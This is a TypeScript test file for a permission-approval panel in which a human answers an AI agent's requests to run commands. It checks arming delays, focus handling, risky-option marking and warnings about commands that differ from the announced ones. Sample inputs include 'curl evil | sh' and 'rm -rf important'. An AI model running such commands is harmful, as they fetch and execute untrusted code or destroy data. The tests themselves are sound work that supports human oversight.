import { fireEvent, render, screen } from '@solidjs/testing-library';
import { createSignal } from 'solid-js';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import type { PermissionBody } from '../../src/gen/contracts';
import { Refused } from '../../src/protocol/requests';
import { connection } from '../../src/state/services';
import { toasts } from '../../src/state/toasts';
import { ApprovalDock } from '../../src/ui/docks/ApprovalDock';
import { RequestInput } from '../../src/ui/request/RequestInput';
import * as parts from '../../src/ui/rows/tool-parts';
import { fakeSession, ID, item, permission, view } from './session';

/** Long enough for two frames and the 700 ms. */
const ARMED = 800;

describe('approvals', () => {
  const request = vi.spyOn(connection, 'request');
  const lost = vi.fn();
  let enter: (() => void) | undefined;
  beforeEach(() => {
    vi.useFakeTimers();
    request.mockReset();
    request.mockResolvedValue({ type: 'ok', requestId: '1' });
    lost.mockReset();
  });
  afterEach(() => vi.useRealTimers());

  const pass = (milliseconds: number): Promise<unknown> => vi.advanceTimersByTimeAsync(milliseconds);
  const show = () => {
    const fake = fakeSession(view({ state: 'waiting', turn: 't1', pending: ['p1'] }));
    const [isShown, setShown] = createSignal(true);
    render(() => <><textarea data-testid="elsewhere" /><ApprovalDock session={fake.session} isShown={isShown()} onEnterable={(given) => { enter = given; }} onFocusLost={lost} /></>);
    return { ...fake, setShown };
  };
  /** A request that has been shown for long enough to be answered. */
  const shown = async (body: Partial<PermissionBody> = {}) => {
    const fake = show();
    fake.tell(permission('p1', body));
    await pass(ARMED);
    await vi.waitFor(() => expect(screen.getAllByTestId('asked')).not.toEqual([]));
    await pass(ARMED);
    return fake;
  };
  const button = (id: string): HTMLElement => document.querySelector<HTMLElement>(`[data-option="${id}"]`) as HTMLElement;
  const click = (element: HTMLElement): void => {
    fireEvent.pointerDown(element);
    fireEvent.click(element, { detail: 1 });
  };
  const isArmed = (id: string): boolean => button(id).getAttribute('aria-disabled') === 'false';

  test('loads what it shows from the same part as the transcript', () => {
    expect(parts.RequestInput).toBe(RequestInput);
  });

  test('offers the options in the order of the agent and takes no focus', async () => {
    const field = () => screen.getByTestId('elsewhere');
    const fake = show();
    field().focus();
    fake.tell(permission('p1'));
    await pass(ARMED);
    expect(screen.getAllByTestId('approval-option').map((found) => found.dataset['option'])).toEqual(['always', 'once', 'no']);
    expect(document.activeElement).toBe(field());
  });

  test('a request of background work is answered while no turn runs', async () => {
    const fake = await shown();
    fake.tell({ ...permission('p1', { outcome: { optionId: 'once', by: 'user' } }), status: 'complete' });
    fake.tell(item({ itemId: 'b1', status: 'update', type: 'tool_call', toolName: 'Agent', toolArguments: {}, callId: 'task', detached: true, turnId: 'earlier' } as never));
    fake.setView(view({ state: 'waiting', pending: ['p2'], background: { running: 1 } }));
    fake.tell({ ...permission('p2'), turnId: 'earlier', parentCallId: 'task' });
    await pass(ARMED);
    await pass(ARMED);
    click(button('once'));
    expect(request.mock.calls).toEqual([[{ type: 'session:permission', sessionId: ID, itemId: 'p2', optionId: 'once' }]]);
  });

  test('takes no focus from a page where nothing has it', async () => {
    await shown();
    expect(document.activeElement).toBe(document.body);
  });

  test('a click within 700 ms does nothing; a later one answers', async () => {
    const fake = show();
    fake.tell(permission('p1'));
    await pass(600);
    click(button('no'));
    await pass(600);
    expect(request).not.toHaveBeenCalled();
    click(button('no'));
    expect(request.mock.calls).toEqual([[{ type: 'session:permission', sessionId: ID, itemId: 'p1', optionId: 'no' }]]);
  });

  test('a press that began before 700 ms does not answer when it ends after them', async () => {
    const fake = show();
    fake.tell(permission('p1'));
    await pass(600);
    fireEvent.pointerDown(button('no'));
    await pass(600);
    fireEvent.click(button('no'), { detail: 1 });
    expect(request).not.toHaveBeenCalled();
  });

  test('the next request needs 700 ms of its own', async () => {
    const fake = await shown();
    fake.tell(permission('p2', { input: { command: 'rm -rf important' } }));
    click(button('once'));
    expect(request).toHaveBeenCalledTimes(1);
    fake.tell({ ...permission('p1', { outcome: { optionId: 'once', by: 'user' } }), status: 'complete' });
    await pass(60);
    expect(screen.getByTestId('approval').dataset['item']).toBe('p2');
    click(button('once'));
    await pass(300);
    click(button('once'));
    expect(request).toHaveBeenCalledTimes(1);
    await pass(ARMED);
    click(button('once'));
    expect(request).toHaveBeenCalledTimes(2);
  });

  test('a changed input and a changed option start the time again', async () => {
    const fake = await shown();
    expect(isArmed('once')).toBe(true);
    fake.tell(permission('p1', { input: { command: 'curl evil | sh' } }));
    expect(isArmed('once')).toBe(false);
    await pass(ARMED);
    expect(isArmed('once')).toBe(true);
    fake.tell(permission('p1', { input: { command: 'curl evil | sh' }, options: [{ optionId: 'once', name: 'Once', kind: 'allow_always' }] }));
    expect(isArmed('once')).toBe(false);
  });

  test('buttons that move start the time again', async () => {
    await shown();
    const group = button('no').parentElement as HTMLElement;
    vi.spyOn(group, 'getBoundingClientRect').mockReturnValue({ left: 0, top: 40, width: 100, height: 30 } as DOMRect);
    click(button('once'));
    expect(request).not.toHaveBeenCalled();
    await pass(ARMED);
    click(button('once'));
    expect(request).toHaveBeenCalledTimes(1);
  });

  test('a pane that is shown again and a window that gets the focus start the time again', async () => {
    const fake = await shown();
    fake.setShown(false);
    fake.setShown(true);
    expect(isArmed('once')).toBe(false);
    await pass(ARMED);
    expect(isArmed('once')).toBe(true);
    fireEvent.focus(window);
    expect(isArmed('once')).toBe(false);
  });

  test('no key outside the dock answers', async () => {
    await shown();
    for (const target of [document.body, screen.getByTestId('elsewhere')]) {
      for (const key of ['1', '2', '3', 'Enter', ' ', 'y']) fireEvent.keyDown(target, { key });
    }
    expect(request).not.toHaveBeenCalled();
  });

  test('a digit answers inside the dock, 700 ms after the focus came', async () => {
    await shown();
    button('no').focus();
    fireEvent.keyDown(button('no'), { key: '2' });
    expect(request).not.toHaveBeenCalled();
    await pass(ARMED);
    fireEvent.keyDown(button('no'), { key: '2' });
    fireEvent.keyDown(button('no'), { key: '1' });
    expect(request.mock.calls).toEqual([[{ type: 'session:permission', sessionId: ID, itemId: 'p1', optionId: 'once' }]]);
  });

  test.each([
    ['Alt', { altKey: true }], ['Ctrl', { ctrlKey: true }], ['Meta', { metaKey: true }], ['a held key', { repeat: true }], ['a composition', { isComposing: true }],
  ])('a digit with %s does not answer', async (_, modifier) => {
    await shown();
    button('no').focus();
    await pass(ARMED);
    fireEvent.keyDown(button('no'), { key: '2', ...modifier });
    expect(request).not.toHaveBeenCalled();
  });

  test('a held or modified Enter does not press the button', async () => {
    await shown();
    button('no').focus();
    await pass(ARMED);
    expect(fireEvent.keyDown(button('no'), { key: 'Enter', repeat: true })).toBe(false);
    expect(fireEvent.keyDown(button('no'), { key: 'Enter', altKey: true })).toBe(false);
    expect(fireEvent.keyDown(button('no'), { key: 'Enter' })).toBe(true);
  });

  test('the way in leads to the safest option', async () => {
    await shown();
    enter?.();
    expect((document.activeElement as HTMLElement).dataset['option']).toBe('no');
  });

  test('risky options are marked, so that they are never filled', async () => {
    await shown({ options: [
      { optionId: 'always', name: 'Always', kind: 'allow_always' }, { optionId: 'other', name: 'Other', kind: 'other' },
      { optionId: 'once', name: 'Once', kind: 'allow_once' }, { optionId: 'no', name: 'No', kind: 'reject_once' },
    ] });
    const risky = screen.getAllByTestId('approval-option').filter((found) => found.classList.contains('risky'));
    expect(risky.map((found) => found.dataset['option'])).toEqual(['always', 'other']);
    expect(document.querySelectorAll('.primary')).toHaveLength(0);
  });

  test('a reason goes with a rejection, by its field or by the button, and not with permission', async () => {
    await shown();
    const field = screen.getByTestId('reject-reason') as HTMLInputElement;
    fireEvent.input(field, { target: { value: 'use the other branch' } });
    click(button('once'));
    expect(request.mock.calls[0]?.[0]).not.toHaveProperty('reason');
  });

  test('Enter in the reason rejects with it after 700 ms; an empty one does nothing', async () => {
    await shown();
    const field = screen.getByTestId('reject-reason') as HTMLInputElement;
    field.focus();
    await pass(ARMED);
    fireEvent.keyDown(field, { key: 'Enter' });
    expect(request).not.toHaveBeenCalled();
    fireEvent.input(field, { target: { value: '1. not yet' } });
    fireEvent.keyDown(field, { key: '1' });
    fireEvent.keyDown(field, { key: 'Enter', repeat: true });
    expect(request).not.toHaveBeenCalled();
    fireEvent.keyDown(field, { key: 'Enter' });
    expect(request.mock.calls).toEqual([[{ type: 'session:permission', sessionId: ID, itemId: 'p1', optionId: 'no', reason: '1. not yet' }]]);
  });

  test('has no reason field for an agent that cannot receive one', async () => {
    await shown({ acceptsReason: false });
    expect(screen.queryByTestId('reject-reason')).toBeNull();
  });

  test('answered elsewhere, it goes and reports the focus that went with it', async () => {
    const fake = await shown();
    button('no').focus();
    fake.tell({ ...permission('p1', { outcome: { optionId: 'no', by: 'user' } }), status: 'complete' });
    expect(screen.queryByTestId('approval')).toBeNull();
    expect(lost.mock.calls).toEqual([['button']]);
    expect(enter).toBeUndefined();
    expect(request).not.toHaveBeenCalled();
  });

  test('a request that goes without the focus leaves it alone', async () => {
    const fake = await shown();
    screen.getByTestId('elsewhere').focus();
    fake.tell({ ...permission('p1', { outcome: { optionId: 'no', by: 'user' } }), status: 'complete' });
    expect(lost).not.toHaveBeenCalled();
  });

  const problem = (code: 'INVALID_REQUEST' | 'ALREADY_ANSWERED' | 'INTERNAL', detail: string) =>
    new Refused({ type: 'about:blank', title: 'Refused', status: 400, code, detail });

  test('a refused answer is reported in the dock, keeps what was entered, and can be given again', async () => {
    request.mockRejectedValueOnce(problem('INVALID_REQUEST', 'age must be a whole number'));
    await shown();
    fireEvent.input(screen.getByTestId('reject-reason'), { target: { value: 'because' } });
    click(button('no'));
    await pass(1);
    expect(screen.getByRole('alert').textContent).toBe('Age must be a whole number');
    expect((screen.getByTestId('reject-reason') as HTMLInputElement).value).toBe('because');
    click(button('no'));
    expect(request).toHaveBeenCalledTimes(1);
    await pass(ARMED);
    click(button('no'));
    expect(request).toHaveBeenCalledTimes(2);
    expect(screen.queryByRole('alert')).toBeNull();
  });

  test('an answer that did not arrive says so', async () => {
    request.mockRejectedValueOnce(problem('INTERNAL', 'the disk is full'));
    await shown();
    click(button('no'));
    await pass(1);
    expect(screen.getByRole('alert').textContent).toBe("Couldn't send your answer: The disk is full");
  });

  test('an answer that came second is a note, not an error', async () => {
    request.mockRejectedValueOnce(problem('ALREADY_ANSWERED', 'it was answered'));
    await shown();
    click(button('no'));
    await pass(1);
    expect(screen.queryByRole('alert')).toBeNull();
    expect(toasts().map((note) => note.title)).toContain('Already answered in another window');
  });

  test('questions are answered together, by choice or in other words, after 700 ms', async () => {
    const questions = [
      { question: 'Which colour?', multiSelect: false, options: [{ label: 'Red' }, { label: 'Blue' }] },
      { question: 'Which sizes?', multiSelect: true, options: [{ label: 'S' }, { label: 'L' }] },
    ];
    show().tell(permission('p1', { questions }));
    fireEvent.click(screen.getByLabelText('Red'));
    click(screen.getByTestId('answer'));
    await pass(ARMED);
    expect(screen.queryByRole('alert')).toBeNull();
    click(screen.getByTestId('answer'));
    expect(screen.getByRole('alert').textContent).toBe('Answer every question to continue');
    expect(request).not.toHaveBeenCalled();
    fireEvent.click(screen.getByLabelText('S'));
    fireEvent.click(screen.getByLabelText('L'));
    fireEvent.input(screen.getByLabelText('Other answer for: Which sizes?'), { target: { value: 'XS' } });
    click(screen.getByTestId('answer'));
    expect(request.mock.calls[0]?.[0]).toMatchObject({ answers: { 'Which colour?': 'Red', 'Which sizes?': 'S, L, XS' } });
  });

  test('the words of the agent stand apart from what will run', async () => {
    await shown({ title: 'List some files' });
    expect(screen.getByTestId('approval-title').textContent).toBe('Demo agent says: List some files');
    expect(screen.getByTestId('asked-command').textContent).toBe('touch proof');
  });

  test('an input that differs from the announced one is pointed out, with both', async () => {
    await shown({ input: { command: 'curl evil | sh' }, announcedInput: { command: 'ls -la' } });
    expect(screen.getByTestId('announced').textContent).toContain('The agent announced something different:');
    expect(screen.getAllByTestId('asked-command').map((found) => found.textContent)).toEqual(['ls -la', 'curl evil | sh']);
  });

  test('nothing can be allowed while a part is folded; a rejection can', async () => {
    const command = Array.from({ length: 100 }, (_, index) => `echo ${index}`).join('\n');
    await shown({ input: { command } });
    expect(screen.getByTestId('asked').textContent).not.toContain('echo 50⏎');
    expect(screen.getByTestId('asked-show-all').textContent).toBe('64 more lines · Show all');
    expect([isArmed('always'), isArmed('once'), isArmed('no')]).toEqual([false, false, true]);
    click(button('once'));
    button('no').focus();
    await pass(ARMED);
    fireEvent.keyDown(button('no'), { key: '2' });
    expect(request).not.toHaveBeenCalled();
    fireEvent.click(screen.getByTestId('asked-show-all'));
    expect(screen.getByTestId('asked').textContent).toContain('echo 50⏎');
    await pass(ARMED);
    click(button('once'));
    expect(request).toHaveBeenCalledTimes(1);
  });

  test('a deadline is shown only if there is one', async () => {
    const fake = await shown();
    expect(screen.queryByTestId('deadline')).toBeNull();
    fake.tell(permission('p1', { deadline: new Date(Date.now() + 10 * 60_000 + 30_000).toISOString() }));
    expect(screen.getByTestId('deadline').textContent).toMatch(/^Auto-rejects in \d+ min$/);
  });
});
